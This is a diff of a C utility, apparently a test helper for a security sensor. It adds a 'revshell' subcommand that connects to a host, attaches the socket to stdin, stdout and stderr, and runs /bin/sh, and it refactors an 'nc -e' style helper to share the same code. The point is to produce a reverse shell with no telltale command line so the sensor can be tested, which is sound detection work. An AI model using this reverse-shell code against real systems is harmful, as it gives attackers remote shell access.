@@ -55,24 +55,30 @@ static int tcp_listen(int port)
 	return s;
 }
 
-/* nc HOST PORT -e PROG: a child with stdio on the socket runs PROG (as ncat --sh-exec does). */
-static int nc_main(int argc, char **argv)
+/* A child with stdio on a connection to HOST:PORT runs PROG (argv[0] its base name, no arguments). */
+static int on_connection(const char *ip, int port, const char *prog)
 {
-	if (argc != 5 || strcmp(argv[3], "-e"))
-		return 2;
-	int s = tcp_connect(argv[1], atoi(argv[2]));
+	int s = tcp_connect(ip, port);
 	if (s < 0)
 		return 1;
 	pid_t p = fork();
 	if (p == 0) {
 		dup2(s, 0), dup2(s, 1), dup2(s, 2);
-		const char *base = strrchr(argv[4], '/');
-		execl(argv[4], base ? base + 1 : argv[4], (char *)NULL);
+		const char *base = strrchr(prog, '/');
+		execl(prog, base ? base + 1 : prog, (char *)NULL);
 		_exit(127);
 	}
 	int st = 0;
 	waitpid(p, &st, 0);
 	return 0;
+}
+
+/* nc HOST PORT -e PROG, as ncat --sh-exec does. */
+static int nc_main(int argc, char **argv)
+{
+	if (argc != 5 || strcmp(argv[3], "-e"))
+		return 2;
+	return on_connection(argv[1], atoi(argv[2]), argv[4]);
 }
 
 static int serve(int argc, char **argv)
@@ -225,6 +231,10 @@ int main(int argc, char **argv)
 			close(s);
 		return s >= 0 ? 0 : 1;
 	}
+	/* revshell HOST PORT: a shell on a connection with no telltale command line (what a Python or C
+	 * one-liner does after dup2): only the sensor's look at fds 0 and 1 tells it */
+	if (!strcmp(a, "revshell") && argc == 4)
+		return on_connection(x, atoi(argv[3]), "/bin/sh");
 	if (!strcmp(a, "listen")) {
 		int s = tcp_listen(atoi(x));
 		if (s >= 0)
